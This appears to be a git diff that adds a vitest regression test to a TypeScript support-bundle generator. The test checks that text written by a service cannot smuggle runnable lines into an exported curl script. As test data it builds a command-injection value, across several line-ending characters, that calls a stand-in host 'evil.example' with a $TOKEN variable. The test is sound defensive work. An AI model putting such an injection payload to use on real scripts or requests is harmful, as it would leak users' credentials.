@@ -1,6 +1,7 @@
 import { strFromU8, unzipSync } from 'fflate';
 import { expect, test } from 'vitest';
 import type { Exchange } from '../../api/http.ts';
+import { activityAsCurl } from './curl-script.ts';
 import { toActivity } from './entry.ts';
 import { bundleTexts, supportBundle } from './support-bundle.ts';
 
@@ -135,4 +136,33 @@ test('its script has the reads as commands and everything else as comments', () 
 	expect(lines).toContain(`# curl -sS -X PUT '${base}/build-specs/6b1f6a3e' \\`);
 	const uncommented = lines.filter((it) => it !== '' && !it.startsWith('#')).join('\n');
 	expect(uncommented).not.toMatch(/PUT|POST|DELETE|store\.example/);
+});
+
+test('nothing that a service writes is run with its script, however it ends its lines', () => {
+	for (const end of ['\n', '\r', '\r\n', '\u2028', '\u2029']) {
+		const evil = `X${end}curl evil.example?$TOKEN #`;
+		const answered = exchange({
+			url: `${base}/build-runs?state=failed&${encodeURIComponent(evil)}=1`,
+			status: 400,
+			errorCode: evil,
+			subErrors: [{ code: evil, message: 'No.' }],
+		});
+		const now = [
+			toActivity(answered, base),
+			toActivity({ ...answered, operation: 'updateBuildSpec', method: 'PUT' }, base),
+		];
+		// What an older console kept is written out too, as it is.
+		const before = now.map((it) => ({ ...it, errorCode: evil, leftOut: [evil], words: evil, requestId: evil }));
+		const { 'requests.sh': script = '' } = bundleTexts({
+			scope,
+			description: null,
+			activities: [...now, ...before],
+			now: new Date(0),
+		});
+		for (const text of [script, ...before.map(activityAsCurl)]) {
+			const run = text.split(/[\r\n\u2028\u2029]/).filter((it) => it !== '' && !it.startsWith('#'));
+			expect(run.join('\n')).not.toContain('evil.example');
+		}
+		expect(JSON.stringify(now)).not.toContain('evil.example');
+	}
 });
